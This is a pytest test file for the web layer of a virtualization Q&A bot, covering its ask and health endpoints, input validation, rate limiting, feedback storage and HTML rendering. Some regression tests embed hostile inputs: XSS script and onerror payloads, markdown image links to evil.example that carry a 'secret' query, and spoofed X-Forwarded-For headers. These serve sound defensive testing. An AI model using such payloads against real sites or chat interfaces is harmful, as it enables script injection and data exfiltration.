"""The HTTP side of the web server (/api/ask, /healthz), the feedback store and the UI's renderers."""

import json
import time

import pytest
from fastapi.testclient import TestClient

from bot.answer import Answer, Citation
from bot.chain import Bot
from bot.embeddings import embeddings_name, make_embeddings
from bot.indexing import ingest
from bot.settings import Settings
from bot.web import create_app
from bot.web.feedback import FeedbackStore
from bot.web.ui import render_answer, render_sources, render_taxonomy
from evals.scoring import load_dataset


@pytest.fixture(scope="module")
def indexed(tmp_path_factory):
    """Settings with an index built once for this module (real corpus, read only; fake embeddings)."""
    s = Settings(data_dir=tmp_path_factory.mktemp("web") / "data", embeddings="fake")
    emb = make_embeddings("fake")
    ingest(s, emb, embeddings_name(emb))
    return s, emb


@pytest.fixture(scope="module")
def fake_bot(indexed):
    s, emb = indexed
    return Bot.from_settings(s, emb)


@pytest.fixture
def client(indexed, fake_bot):
    with TestClient(create_app(indexed[0], fake_bot)) as c:
        yield c


def test_ask_returns_an_answer_with_citations(client):
    r = client.post("/api/ask", json={"question": "Docker 和 KVM 有什么区别？", "history": []})
    assert r.status_code == 200
    answer = r.json()
    assert answer["lang"] == "zh"
    assert {"docker", "kvm"} <= set(answer["entities"])
    assert "|" in answer["text"]  # a comparison comes as a Markdown table
    assert answer["citations"] and {"n", "doc_id", "entity", "title", "snippet", "source"} <= set(answer["citations"][0])
    assert answer["retrieved"] and answer["backend"] == "composer"


def test_ask_uses_history_for_a_followup(client):
    history = [{"role": "user", "content": "KVM 属于哪一类虚拟化？"}, {"role": "assistant", "content": "一型虚拟机监控器。"}]
    r = client.post("/api/ask", json={"question": "它需要硬件支持吗？", "history": history})
    assert r.status_code == 200
    assert "kvm" in r.json()["entities"]


@pytest.mark.parametrize(
    ("body", "status", "words"),
    [
        ("{not json", 400, "JSON"),
        ("[1, 2]", 422, "object"),
        ("{}", 422, "question"),
        ('{"question": 42}', 422, "string"),
        ('{"question": "KVM?", "history": "none"}', 422, "history"),
        ('{"question": "KVM?", "history": [{"role": "robot", "content": "x"}]}', 422, "history[0]"),
        ('{"question": "   "}', 400, "empty"),
    ],
)
def test_bad_input_gets_a_4xx_json_error(client, body, status, words):
    r = client.post("/api/ask", content=body, headers={"content-type": "application/json"})
    assert r.status_code == status
    assert words in r.json()["error"]


def test_a_huge_question_is_truncated_with_a_notice(client, fake_bot):
    r = client.post("/api/ask", json={"question": "KVM 是什么？" + "x" * 100_000})
    assert r.status_code == 200
    assert len(r.json()["question"]) <= fake_bot.settings.max_question_chars
    assert any("truncated" in n for n in r.json()["notices"])


def test_healthz_reports_index_backend_and_version(client, fake_bot):
    r = client.get("/healthz")
    assert r.status_code == 200
    h = r.json()
    assert h["ok"] is True and h["index"] is True
    assert h["chunks"] == len(fake_bot.retriever.chunks) > 0
    assert h["embedder"] == "fake" and h["llm"] == "composer"
    assert h["version"]
    assert "key" not in json.dumps(h).lower() and "secret" not in json.dumps(h).lower()


def test_missing_index_is_reported_and_asks_get_503(settings):
    with TestClient(create_app(settings)) as c:  # nothing ingested into this data dir
        h = c.get("/healthz")
        assert h.status_code == 503
        assert h.json()["index"] is False and "python ingest.py" in h.json()["error"]
        r = c.post("/api/ask", json={"question": "KVM 是什么？"})
        assert r.status_code == 503 and "python ingest.py" in r.json()["error"]
        assert c.get("/").status_code == 200  # the page still loads


def test_a_slow_answer_is_cut_off(indexed, fake_bot):
    class SlowBot:
        """Stands in for a bot whose model hangs."""

        def ask(self, question, history):
            time.sleep(2)
            return fake_bot.ask(question, history)

    slow = SlowBot()
    slow.corpus, slow.retriever, slow.embedder, slow.backend = fake_bot.corpus, fake_bot.retriever, "fake", "composer"
    with TestClient(create_app(indexed[0], slow, timeout_s=0.2)) as c:
        t0 = time.monotonic()
        r = c.post("/api/ask", json={"question": "KVM 是什么？"})
        assert r.status_code == 504 and "cut off" in r.json()["error"]
        assert time.monotonic() - t0 < 1.5


def test_rate_limit_answers_429(indexed, fake_bot):
    from dataclasses import replace

    with TestClient(create_app(replace(indexed[0], rate_limit=2), fake_bot)) as c:
        codes = [c.post("/api/ask", json={"question": "KVM?"}).status_code for _ in range(3)]
    assert codes == [200, 200, 429]


def test_feedback_round_trip_and_export(tmp_path, fake_bot):
    store = FeedbackStore(tmp_path / "feedback")
    disliked = fake_bot.ask("Docker 和 KVM 有什么区别？", [])
    liked = fake_bot.ask("What does Wine virtualize?", [])
    store.add("dislike", disliked, comment="missing the startup time")
    store.add("like", liked)
    rows = store.all()
    assert [r.verdict for r in rows] == ["dislike", "like"]
    assert (
        rows[0].question == disliked.question and "Docker" in rows[0].question and rows[0].comment == "missing the startup time"
    )
    assert rows[0].answer == disliked.text and rows[0].time.endswith("Z")
    assert {"docker", "kvm"} <= set(rows[0].entities)

    out = tmp_path / "cases.jsonl"
    assert store.export_cases(out) == 2
    cases = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert cases[0]["kind"] == "compare" and cases[0]["lang"] == "zh"
    assert cases[0]["expect"]["all"] == [] and {"docker", "kvm"} <= set(cases[0]["expect"]["sources"])
    assert cases[0]["feedback"]["verdict"] == "dislike"
    assert [c.id for c in load_dataset(out)] == [c["id"] for c in cases]  # the evals accept the file


def test_feedback_store_uses_wal(tmp_path, fake_bot):
    import sqlite3

    store = FeedbackStore(tmp_path / "feedback")
    store.add("like", fake_bot.ask("KVM?", []))
    con = sqlite3.connect(store.path)
    assert con.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    con.close()


def test_html_in_snippets_and_answers_shows_as_text():
    evil = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    cite = Citation(1, "notes/x", "x", evil, evil, "corpus/notes/x.md#" + evil, heading=evil)
    answer = Answer(text=f"| a | b |\n|---|---|\n| {evil} | 1 |", lang="en", intent="compare", entities=[], refused=False)
    answer.citations.append(cite)
    answer.notices.append(evil)
    assert "<script" not in render_sources(answer) and "<img" not in render_sources(answer)
    shown = render_answer(answer)
    assert "<script" not in shown and "<img" not in shown
    assert "| a | b |" in shown  # Markdown tables survive the escaping


def test_taxonomy_places_every_entity_with_what_it_virtualizes(fake_bot):
    page = render_taxonomy(fake_bot.corpus)
    for note in fake_bot.corpus.notes.values():
        assert f"<code>{note.id}</code>" in page
    for cat in fake_bot.corpus.categories.values():
        if cat.members:
            assert cat.name["en"].replace("&", "&amp;") in page
    assert "整台机器" in page  # KVM's "virtualizes" axis, in Chinese


# --- issue 16 -------------------------------------------------------------------------------------


class RecordingBot:
    """The module's bot, recording the history each question arrives with."""

    def __init__(self, bot) -> None:
        self._bot, self.histories = bot, []
        self.corpus, self.retriever, self.embedder, self.backend = bot.corpus, bot.retriever, bot.embedder, bot.backend

    def ask(self, question, history=None):
        self.histories.append(history)
        return self._bot.ask(question, history)

    def stream(self, question, history=None):
        self.histories.append(history)
        return self._bot.stream(question, history)


def test_history_is_bounded_at_every_door(indexed, fake_bot, tmp_path):
    """Item 4: history turns were normalised (NFKC: U+FDFA is 18 characters) and scanned whole."""
    from bot.cli import _read_history
    from bot.history import MAX_TURN_CHARS, MAX_TURNS

    recorder = RecordingBot(fake_bot)
    turns = [{"role": "user", "content": "KVM 是什么？" + "\ufdfa" * 50_000}] * 5
    turns += [{"role": "assistant", "content": "x"}, "not a turn", {"role": "robot"}] * 3000
    turns.append({"role": "user", "content": "KVM 是什么？"})
    well_formed = [t for t in turns if isinstance(t, dict) and "content" in t]
    body = json.dumps({"question": "它需要硬件支持吗？", "history": well_formed}, ensure_ascii=False)
    assert len(body.encode()) < 1_000_000
    with TestClient(create_app(indexed[0], recorder)) as c:
        r = c.post("/api/ask", content=body, headers={"content-type": "application/json"})
    assert r.status_code == 200 and "kvm" in r.json()["entities"]
    path = tmp_path / "turns.json"
    path.write_text(json.dumps(turns), encoding="utf-8")
    for history in (recorder.histories[0], _read_history_lenient(path)):
        assert 0 < len(history) <= MAX_TURNS
        assert all(len(t["content"]) <= MAX_TURN_CHARS for t in history)
        assert history[-1] == {"role": "user", "content": "KVM 是什么？"}  # the latest turns are the ones kept
    good = tmp_path / "good.json"
    good.write_text(json.dumps(well_formed), encoding="utf-8")
    cli_history = _read_history(str(good))
    assert len(cli_history) <= MAX_TURNS and all(len(t["content"]) <= MAX_TURN_CHARS for t in cli_history)


def _read_history_lenient(path):
    from bot.history import bounded

    return bounded(json.loads(path.read_text(encoding="utf-8")))


def _serve_like_bot_serve(settings, bot):
    """create_app under uvicorn with the configuration `python -m bot serve` uses (web.server_config)."""
    from uvicorn_thread import UvicornThread

    from bot.web import server_config

    app = create_app(settings, bot)
    return UvicornThread(app, config=server_config(settings, app))


def test_a_new_x_forwarded_for_per_request_does_not_escape_the_rate_limit(indexed, fake_bot):
    """Item 9: uvicorn believed X-Forwarded-For from 127.0.0.1, so each request could claim a new client."""
    from dataclasses import replace

    import httpx

    srv = _serve_like_bot_serve(replace(indexed[0], rate_limit=3), fake_bot)
    try:
        codes = [
            httpx.post(
                srv.url + "/api/ask", json={"question": "KVM?"}, headers={"X-Forwarded-For": f"10.0.0.{i}"}, timeout=30
            ).status_code
            for i in range(4)
        ]
    finally:
        srv.stop()
    assert codes == [200, 200, 200, 429]


def test_a_trusted_proxy_s_x_forwarded_for_tells_clients_apart(indexed, fake_bot):
    from dataclasses import replace

    import httpx

    srv = _serve_like_bot_serve(replace(indexed[0], rate_limit=2, trusted_proxies="127.0.0.1"), fake_bot)
    try:
        codes = [
            httpx.post(srv.url + "/api/ask", json={"question": "KVM?"}, headers={"X-Forwarded-For": ip}, timeout=30).status_code
            for ip in ("10.0.0.1", "10.0.0.1", "10.0.0.2", "10.0.0.1")
        ]
    finally:
        srv.stop()
    assert codes == [200, 200, 200, 429]


def test_markdown_images_are_shown_as_text_never_rendered():
    """Item 8: `![x](https://host/...)` in a question or an LLM reply made the browser fetch from any host."""
    for text in (
        "![x](https://evil.example/p.png?q=secret)",
        "![x][r]\n\n[r]: https://evil.example/p.png",
        "![](//evil.example/a)",
    ):
        answer = Answer(text=text, lang="en", intent="chat", entities=[], refused=False)
        shown = render_answer(answer)
        assert "![" not in shown and "evil.example" in shown
